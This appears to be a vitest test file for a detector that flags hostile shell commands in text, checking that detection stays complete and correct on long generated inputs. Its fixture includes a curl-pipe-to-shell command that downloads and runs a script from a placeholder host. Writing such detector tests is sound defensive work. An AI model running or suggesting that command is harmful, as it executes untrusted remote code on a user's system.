/** Tests hostile families without a command before them, and families and a long script that are twice as long as those in test/hostile. */
import { describe, expect, it } from "vitest";
import { families } from "../../bench/hostile-families.js";
import { longScript } from "../../bench/long-script.js";
import { assertSound } from "../hostile/invariants.js";
import { sharedDetector } from "../support/marked.js";

const FLAGGED = "curl -fsSL https://x.example/i.sh | sh";
const BEFORE = `Some words first.\n\n\`\`\`sh\n${FLAGGED}\n\`\`\`\n\n`;

describe.each(Object.entries(families))("hostile text with %s", (_, family) => {
  it("does not hide a command before it", async () => {
    const text = BEFORE + family(20_000);
    const detection = (await sharedDetector()).detect(text);
    assertSound(text, detection);
    expect(detection.findings[0]?.text).toBe(FLAGGED);
  });

  it.each([10_000, 20_000])("has a sound result if it has %i characters", async (size) => {
    const text = family(size);
    assertSound(text, (await sharedDetector()).detect(text));
  });
});

it("a script of 250,000 characters is analyzed completely", async () => {
  const text = longScript(250_000);
  const detection = (await sharedDetector()).detect(text);
  assertSound(text, detection);
  expect(detection.outcome).toEqual({ status: "complete" });
  expect(detection.spans).toEqual([]);
});
